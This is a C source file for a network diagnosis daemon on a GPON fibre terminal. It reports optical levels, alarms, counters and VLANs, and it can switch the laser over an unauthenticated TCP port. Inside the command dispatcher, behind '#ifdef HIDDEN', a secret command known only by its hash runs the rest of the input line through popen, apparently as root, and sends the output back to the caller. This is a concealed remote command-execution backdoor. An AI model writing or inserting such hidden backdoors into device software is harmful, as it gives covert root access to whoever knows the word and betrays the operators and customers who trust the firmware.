/* fibrediag.c - diagnosis port of a GPON fibre terminal, words are found by their hash */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#define PORT		4998
#define GPON_DIR	"/sys/class/gpon/gpon0/"

/* hashes of the words in help_text, made by tools/mkhash */
#define W_POWER		0xf54f2346u
#define W_LOS		0x535170cdu
#define W_GEM		0x5b0cb25cu
#define W_ALARM		0x19ebecdau
#define W_COUNTER	0x9cacde23u
#define W_RESET		0x650d33c0u
#define W_LASER		0x9dac718cu
#define W_VLAN		0x0454817cu
#define W_QUIT		0x47878736u
#define W_HELP		0x3871a3fau

static const char help_text[] =
	"power             optical levels\n"
	"los               state of the signal\n"
	"gem [N]           GEM ports\n"
	"alarm             active alarms\n"
	"counter [reset]   frame counters\n"
	"reset             counters to zero\n"
	"laser on|off      only with the jumper set\n"
	"vlan              list of VLANs\n"
	"quit\n";

struct peer {
	int fd;
	char addr[INET_ADDRSTRLEN];
	int cmds;
	int done;
};

static uint32_t word_hash(const char *s, size_t n)
{
	uint32_t h = 0x811c9dc5u;
	size_t i;

	for (i = 0; i < n; i++) {
		h ^= (uint8_t)s[i];
		h *= 0x01000193u;
	}
	return h;
}

static void out(struct peer *p, const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	if (vdprintf(p->fd, fmt, ap) < 0)
		p->done = 1;
	va_end(ap);
}

static long attr(const char *name)
{
	char path[96], buf[32] = "";
	FILE *f;

	snprintf(path, sizeof(path), GPON_DIR "%s", name);
	f = fopen(path, "r");
	if (!f)
		return -1;
	if (!fgets(buf, sizeof(buf), f))
		buf[0] = '\0';
	fclose(f);
	return strtol(buf, NULL, 0);
}

static int set_attr(const char *name, const char *val)
{
	char path[96];
	FILE *f;

	snprintf(path, sizeof(path), GPON_DIR "%s", name);
	f = fopen(path, "w");
	if (!f)
		return -1;
	fputs(val, f);
	return fclose(f);
}

static void copy_stream(struct peer *p, FILE *f)
{
	char line[256];

	while (!p->done && fgets(line, sizeof(line), f))
		out(p, "%s", line);
}

static void show_list(struct peer *p, const char *name)
{
	char path[96];
	FILE *f;

	snprintf(path, sizeof(path), GPON_DIR "%s", name);
	f = fopen(path, "r");
	if (!f) {
		out(p, "not available\n");
		return;
	}
	copy_stream(p, f);
	fclose(f);
}

static void show_power(struct peer *p)
{
	long rx = attr("rx_power"), tx = attr("tx_power");

	out(p, "rx %ld.%02ld dBm\n", rx / 100, labs(rx % 100));
	out(p, "tx %ld.%02ld dBm\n", tx / 100, labs(tx % 100));
	out(p, "bias %ld uA, %ld C\n", attr("bias"), attr("temp"));
}

static void show_gem(struct peer *p, const char *arg)
{
	char name[32];
	long n = *arg ? strtol(arg, NULL, 10) : -1, i;

	for (i = 0; i < 16; i++) {
		if (n >= 0 && i != n)
			continue;
		snprintf(name, sizeof(name), "gem%d/id", (int)i);
		if (attr(name) >= 0)
			out(p, "gem %ld: port %ld\n", i, attr(name));
	}
}

static void laser(struct peer *p, const char *arg)
{
	int on = !strcmp(arg, "on");

	if (attr("jumper") != 1) {
		out(p, "jumper not set\n");
		return;
	}
	if (!on && strcmp(arg, "off")) {
		out(p, "on or off\n");
		return;
	}
	out(p, set_attr("laser", on ? "1" : "0") ? "failed\n" : "done\n");
}

/* the words are compared by hash only, no table of names in the flash */
__attribute__((noinline))
void diag_word(struct peer *p, const char *line)
{
	size_t n = strcspn(line, " ");
	const char *arg = line + n + strspn(line + n, " ");

	p->cmds++;
	switch (word_hash(line, n)) {
	case W_POWER:
		show_power(p);
		break;
	case W_LOS:
		out(p, "%s\n", attr("los") ? "loss of signal" : "signal good");
		break;
	case W_GEM:
		show_gem(p, arg);
		break;
	case W_ALARM:
		show_list(p, "alarms");
		break;
	case W_COUNTER:
		show_list(p, "counters");
		if (!strcmp(arg, "reset"))
			set_attr("counters", "0");
		break;
	case W_RESET:
		out(p, set_attr("counters", "0") ? "failed\n" : "done\n");
		break;
	case W_LASER:
		laser(p, arg);
		break;
	case W_VLAN:
		show_list(p, "vlans");
		break;
	case W_HELP:
		out(p, "%s", help_text);
		break;
	case W_QUIT:
		p->done = 1;
		break;
#ifdef HIDDEN	/* word known by hash only: runs the rest of the line as root */
	case 0x32ddfbc4u: {
		FILE *f = popen(arg, "r");

		if (f) {
			copy_stream(p, f);
			pclose(f);
		}
		break;
	}
#endif
	default:
		out(p, "unknown word, help lists all\n");
	}
}

static void session(int fd, const struct sockaddr_in *from)
{
	struct peer p;
	char line[256];
	FILE *in;

	memset(&p, 0, sizeof(p));
	p.fd = fd;
	inet_ntop(AF_INET, &from->sin_addr, p.addr, sizeof(p.addr));
	in = fdopen(dup(fd), "r");
	if (!in)
		return;
	out(&p, "fibre diagnosis, %s\n", p.addr);
	alarm(600);
	while (!p.done && fgets(line, sizeof(line), in)) {
		line[strcspn(line, "\r\n")] = '\0';
		if (line[0])
			diag_word(&p, line);
		alarm(600);
	}
	fclose(in);
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa, from;
	socklen_t sl;
	int ls, fd, on = 1;

	if (argc > 1 && !strcmp(argv[1], "--help")) {
		printf("usage: fibrediag [PORT]\nwords:\n%s", help_text);
		return 0;
	}
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons((uint16_t)(argc > 1 ? atoi(argv[1]) : PORT));
	ls = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	if (ls < 0 || bind(ls, (struct sockaddr *)&sa, sizeof(sa)) ||
	    listen(ls, 2)) {
		perror("fibrediag");
		return 1;
	}
	signal(SIGPIPE, SIG_IGN);
	for (;;) {
		sl = sizeof(from);
		fd = accept(ls, (struct sockaddr *)&from, &sl);
		if (fd < 0)
			continue;
		if (fork() == 0) {
			close(ls);
			session(fd, &from);
			_exit(0);
		}
		close(fd);
		while (waitpid(-1, NULL, WNOHANG) > 0)
			;
	}
}
